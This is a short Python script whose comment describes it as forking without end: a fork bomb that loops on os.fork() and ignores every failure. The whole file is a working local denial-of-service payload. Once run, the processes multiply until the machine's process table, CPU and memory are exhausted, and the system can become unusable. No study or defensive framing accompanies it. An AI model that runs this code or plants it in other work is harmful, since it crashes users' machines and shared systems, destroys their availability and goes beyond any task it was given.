# Forks without end; every process keeps forking and spinning, ignoring every failure.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
